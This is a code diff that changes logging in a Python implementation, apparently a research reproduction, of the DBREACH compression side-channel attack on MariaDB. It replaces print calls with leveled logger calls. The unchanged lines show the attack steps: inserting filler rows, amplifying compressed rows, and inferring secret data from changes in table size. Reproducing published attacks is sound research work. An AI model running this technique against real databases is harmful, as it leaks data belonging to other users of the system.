@@ -4,15 +4,16 @@ import time
 import utils.mariadb_utils as utils
 import dbreacher
 import random
+import utils.attack_log as attack_log
 
 # ---- env knobs ----
-LOG_FULL = os.getenv("DBREACH_LOG_FULL", "1") != "0"
+LOG_FULL = os.getenv("DBREACH_LOG_FULL", "1") != "0"  # attack_log에서 debug 레벨 기본값으로 사용
 AMPLIFY_MAX = int(os.getenv("DBREACH_AMPLIFY_MAX", "300"))  # 300(기본, 논문) ~ 500 권장
 AMPLIFY_MAX = max(100, min(500, AMPLIFY_MAX))
 PAUSE_S = float(os.getenv("DBREACH_PAUSE_S", "0"))  # 0.0이면 대기 없음
 
-def _say(msg: str):
-    print(msg)
+# 레벨 로그(꺼진 레벨은 포맷도 안 함). 행 값 전체 덤프는 debug, 진행 상황은 info.
+_log = attack_log.get_logger()
 
 class DBREACHerImpl(dbreacher.DBREACHer):
     def __init__(
@@ -39,9 +40,9 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         self.rowsChanged = [False] * (self.numAmpPhases + 1)
         self.fillersInserted = False
 
-        _say(f"[INIT] compressChar='{self.compressChar}', fillers={len(self.fillers)} rows, "
-             f"startIdx={self.startIdx}, maxRowSize={self.maxRowSize}, phases={self.numAmpPhases} "
-             f"(AMPLIFY_MAX={AMPLIFY_MAX}, PAUSE_S={PAUSE_S})")
+        _log.info("INIT", "compressChar='%s', fillers=%d rows, startIdx=%d, maxRowSize=%d, phases=%d "
+                  "(AMPLIFY_MAX=%d, PAUSE_S=%s)", self.compressChar, len(self.fillers), self.startIdx,
+                  self.maxRowSize, self.numAmpPhases, AMPLIFY_MAX, PAUSE_S)
 
     # ---------- helpers ----------
     def _comp(self, n: int) -> str:
@@ -57,18 +58,18 @@ class DBREACHerImpl(dbreacher.DBREACHer):
     def reinsertFillers(self) -> bool:
         self.compressibilityScoreReady = False
         if self.fillersInserted:
-            _say("[REINSERT] begin")
+            _log.info("REINSERT", "begin")
             # 최근에 부풀린 영역 되돌리기: 압축 200B로 덮어써 경계를 리셋
             upto = self.rowsAdded + self.startIdx - (self.bytesShrunkForCurrentGuess // 100)
             for row in range(self.startIdx, max(self.startIdx, upto)):
                 s = self._comp(200)
-                _say(f"[REINSERT] UPDATE row={row} -> '{s}'")
+                _log.debug("REINSERT", "UPDATE row=%d -> '%s'", row, s)
                 self.control.update_row(self.table, row, s)
             self._flush()
 
             # 기존 filler 삭제
             for row in range(self.startIdx, self.rowsAdded + self.startIdx):
-                _say(f"[REINSERT] DELETE row={row}")
+                _log.debug("REINSERT", "DELETE row=%d", row)
                 self.control.delete_row(self.table, row)
             self._flush()
 
@@ -78,9 +79,9 @@ class DBREACHerImpl(dbreacher.DBREACHer):
                 ''.join(self.rng.choices(self.fillerCharSet, k=self.maxRowSize))
                 for _ in range(self.numFillerRows)
             ]
-            _say(f"[REINSERT] regenerated fillers={len(self.fillers)}")
+            _log.info("REINSERT", "regenerated fillers=%d", len(self.fillers))
         else:
-            _say("[REINSERT] first-time setup (no previous fillers)")
+            _log.info("REINSERT", "first-time setup (no previous fillers)")
         return self.insertFillers()
 
     def insertFillers(self) -> bool:
@@ -90,22 +91,22 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         """
         self.fillersInserted = True
         oldSize = self.control.get_table_size_alloc(self.table)
-        _say(f"[FILLER] old_alloc={oldSize}")
+        _log.info("FILLER", "old_alloc=%s", oldSize)
 
         if not self.fillers:
-            _say("[FILLER] ERROR: fillers empty")
+            _log.warn("FILLER", "ERROR: fillers empty")
             return False
 
         # (1) 첫 filler: 순수 랜덤 200B
-        _say(f"[FILLER] INSERT row={self.startIdx} val='{self.fillers[0]}'")
+        _log.debug("FILLER", "INSERT row=%d val='%s'", self.startIdx, self.fillers[0])
         self.control.insert_row(self.table, self.startIdx, self.fillers[0])
         self._flush()
         self.rowsAdded = 1
         newSize = self.control.get_table_size_alloc(self.table)
-        _say(f"[FILLER] after first insert alloc={newSize}")
+        _log.info("FILLER", "after first insert alloc=%s", newSize)
 
         if newSize > oldSize:
-            _say("[FILLER] grew too quickly -> abort")
+            _log.warn("FILLER", "grew too quickly -> abort")
             return False
 
         # (2) 경계 닿을 때까지 삽입:
@@ -117,9 +118,9 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         while newSize <= oldSize:
             if i >= len(self.fillers):
                 if len(self.fillers) + CHUNK > MAX_TOTAL:
-                    _say(f"[FILLER] ERROR: still <= old_alloc after {len(self.fillers)} rows; abort for safety")
+                    _log.warn("FILLER", "ERROR: still <= old_alloc after %d rows; abort for safety", len(self.fillers))
                     return False
-                _say(f"[FILLER] extending fillers by {CHUNK} rows")
+                _log.info("FILLER", "extending fillers by %d rows", CHUNK)
                 more = [
                     ''.join(self.rng.choices(self.fillerCharSet, k=self.maxRowSize))
                     for _ in range(CHUNK)
@@ -129,16 +130,16 @@ class DBREACHerImpl(dbreacher.DBREACHer):
             rowid = self.startIdx + i
             filler = self.fillers[i]
             combined = compression_bootstrapper + filler[100:]  # 논문 스타일
-            _say(f"[FILLER] INSERT row={rowid} val='{combined}'")
+            _log.debug("FILLER", "INSERT row=%d val='%s'", rowid, combined)
             self.control.insert_row(self.table, rowid, combined)
             self._flush()
             newSize = self.control.get_table_size_alloc(self.table)
-            _say(f"[FILLER] alloc now={newSize}")
+            _log.debug("FILLER", "alloc now=%s", newSize)
             i += 1
             self.rowsAdded += 1
 
         self.rowsChanged = [False] * (self.numAmpPhases + 1)
-        _say(f"[FILLER] boundary reached, rowsAdded={self.rowsAdded}")
+        _log.info("FILLER", "boundary reached, rowsAdded=%d", self.rowsAdded)
         return True
 
     # ---------- measurement ----------
@@ -148,7 +149,7 @@ class DBREACHerImpl(dbreacher.DBREACHer):
 
         # 첫 줄과 보조행들 리셋
         if self.rowsChanged[0]:
-            _say(f"[GUESS] reset row={self.startIdx} -> '{self.fillers[0]}'")
+            _log.debug("GUESS", "reset row=%d -> '%s'", self.startIdx, self.fillers[0])
             self.control.update_row(self.table, self.startIdx, self.fillers[0])
             self.rowsChanged[0] = False
 
@@ -158,7 +159,7 @@ class DBREACHerImpl(dbreacher.DBREACHer):
                 row_to_reset = self.startIdx + self.rowsAdded - i
                 filler = self.fillers[self.rowsAdded - i]
                 reset_str = compression_bootstrapper + filler[100:]
-                _say(f"[GUESS] reset row={row_to_reset} -> '{reset_str}'")
+                _log.debug("GUESS", "reset row=%d -> '%s'", row_to_reset, reset_str)
                 self.control.update_row(self.table, row_to_reset, reset_str)
                 self.rowsChanged[i] = False
 
@@ -168,24 +169,23 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         # guess 삽입(첫 줄 앞부분만 대체)
         new_first_row = guess + self.fillers[0][len(guess):]
         if new_first_row != self.fillers[0]:
-            _say(
-                f"[GUESS] UPDATE row={self.startIdx}\n"
-                f"  guess='{guess}'\n"
-                f"  before='{self.fillers[0]}'\n"
-                f"  after ='{new_first_row}'"
+            _log.debug(
+                "GUESS",
+                "UPDATE row=%d\n  guess='%s'\n  before='%s'\n  after ='%s'",
+                self.startIdx, guess, self.fillers[0], new_first_row,
             )
             self.control.update_row(self.table, self.startIdx, new_first_row)
             self.rowsChanged[0] = True
 
         self._flush()
         new_size = self.control.get_table_size_alloc(self.table)
-        _say(f"[GUESS] alloc {old_size} -> {new_size}")
+        _log.info("GUESS", "alloc %s -> %s", old_size, new_size)
         return new_size < old_size
 
     def getSNoReferenceScore(self, length: int, charSet) -> float:
         seq = charSet if isinstance(charSet, (list, str, tuple)) else list(charSet)
         refGuess = ''.join(self.rng.choices(seq, k=length))
-        _say(f"[REF:NO] L={length} refGuess='{refGuess}'")
+        _log.info("REF:NO", "L=%d refGuess='%s'", length, refGuess)
         shrunk = self.insertGuessAndCheckIfShrunk(refGuess)
         if shrunk:
             raise RuntimeError("Table shrunk too early on insertion of NO-ref guess")
@@ -196,7 +196,7 @@ class DBREACHerImpl(dbreacher.DBREACHer):
     def getSYesReferenceScore(self, length: int) -> float:
         # 두 번째 filler 행의 랜덤 뒷부분(100~)은 실제 테이블에서도 동일 위치에 존재
         refGuess = self.fillers[1][100:][:length]
-        _say(f"[REF:YES] L={length} refGuess='{refGuess}' (from fillers[1][100:])")
+        _log.info("REF:YES", "L=%d refGuess='%s' (from fillers[1][100:])", length, refGuess)
         shrunk = self.insertGuessAndCheckIfShrunk(refGuess)
         if shrunk:
             raise RuntimeError("Table shrunk too early on insertion of YES-ref guess")
@@ -219,7 +219,7 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         # 현재 페이즈(k) 계산 (1..numAmpPhases)
         k = (b - 1) // 100 + 1
         if k > self.numAmpPhases:
-            _say(f"[AMP] cap reached (b>{self.numAmpPhases * 100})")
+            _log.warn("AMP", "cap reached (b>%d)", self.numAmpPhases * 100)
             raise RuntimeError("Amplification cap reached")
 
         # comp 길이 계산
@@ -232,17 +232,17 @@ class DBREACHerImpl(dbreacher.DBREACHer):
         row = self.startIdx + self.rowsAdded - k
         base = self.fillers[self.rowsAdded - k]
         newval = self._comp(comp_len) + base[len(self._comp(comp_len)):]
-        _say(f"[AMP] +1B (phase{k}) row={row} comp_len={comp_len} val='{newval}'")
+        _log.debug("AMP", "+1B (phase%d) row=%d comp_len=%d val='%s'", k, row, comp_len, newval)
         self.control.update_row(self.table, row, newval)
         self.rowsChanged[k] = True
 
         self._flush()
         new_size = self.control.get_table_size_alloc(self.table)
-        _say(f"[AMP] alloc {old_size} -> {new_size}")
+        _log.debug("AMP", "alloc %s -> %s", old_size, new_size)
 
         if new_size < old_size:
             self.compressibilityScoreReady = True
-            _say(f"[AMP] SHRUNK! bytesShrunkForCurrentGuess={self.bytesShrunkForCurrentGuess}")
+            _log.info("AMP", "SHRUNK! bytesShrunkForCurrentGuess=%d", self.bytesShrunkForCurrentGuess)
             return True
         return False
 